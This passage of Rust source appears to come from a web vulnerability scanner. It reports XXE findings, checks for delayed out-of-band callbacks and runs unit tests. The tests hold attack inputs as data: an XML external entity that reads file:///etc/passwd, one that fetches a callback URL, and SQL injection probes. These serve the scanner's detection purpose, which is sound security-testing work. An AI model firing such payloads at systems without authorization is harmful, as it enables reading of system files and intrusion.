        run.report(
            &finding::XXE,
            &probe,
            None,
            &["content-type"],
            "external entity fetched our callback URL",
        );
    } else {
        run.ctx.pending(t, run.p.clone(), url, &finding::XXE);
    }
}

/// Blind callbacks that arrive late (queued webhooks): checked once after a short wait.
async fn late_callbacks(ctx: &Arc<Ctx>) {
    let pending = ctx.take_pending();
    if pending.is_empty() {
        return;
    }
    let Some(cb) = &ctx.callback else { return };
    // A second after the last token went out (the stored-XSS pass usually took that long).
    let last = pending
        .iter()
        .map(|p| p.4)
        .max()
        .unwrap_or_else(tokio::time::Instant::now);
    tokio::time::sleep_until(last + Duration::from_millis(1000)).await;
    for (t, p, url, class, _) in pending {
        if cb.hit(&t).is_none() {
            continue;
        }
        let req = p.request(&url);
        let ev = WebEvidence {
            request: request_text(&ctx.client, &req),
            response_excerpt: format!(
                "callback listener received a request for {url} after the scan sent it"
            ),
        };
        let ep = &p.endpoint;
        ctx.add(make(
            class,
            &ep.url,
            &ep.method,
            Some(&p.label()),
            Some(p.location),
            ev,
            "the target fetched our callback URL (blind, delayed)",
            Vec::new(),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn xxe_documents_keep_the_sample_shape() {
        let d = xxe_document("<order><item>BK-001</item></order>", "file:///etc/passwd");
        assert!(
            d.contains("<!DOCTYPE order [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
            "{d}"
        );
        assert!(d.ends_with("<order><item>&x;</item></order>"), "{d}");
        let g = xxe_document("", "http://cb/x");
        assert!(g.ends_with("<r>&x;</r>"));
    }

    #[test]
    fn sql_errors_are_recognised() {
        assert!(sql_error("sqlite3.OperationalError: unrecognized token: \"'\"").is_some());
        assert!(sql_error("You have an error in your SQL syntax; check the manual").is_some());
        assert!(sql_error("No such product").is_none());
        assert!(passwd("root:x:0:0:root:/root:/bin/bash\n").is_some());
        assert!(passwd("root:x:0:0").is_none());
    }

    #[test]
    fn word_bags_ignore_the_payload_echo() {
        let r = |b: &str| Response {
            status: 200,
            headers: vec![],
            body: b.as_bytes().to_vec(),
            truncated: false,
            elapsed: Duration::ZERO,
        };
        let a = word_bag(&r("You searched for 1 AND 1=1. Found: book"), "1 AND 1=1");
        let b = word_bag(
            &r("You searched for 1 AND 2&gt;5. Found: book"),
            "1 AND 2>5",
        );
        assert!(diff(&a, &b).is_empty(), "{:?}", diff(&a, &b));
    }
}
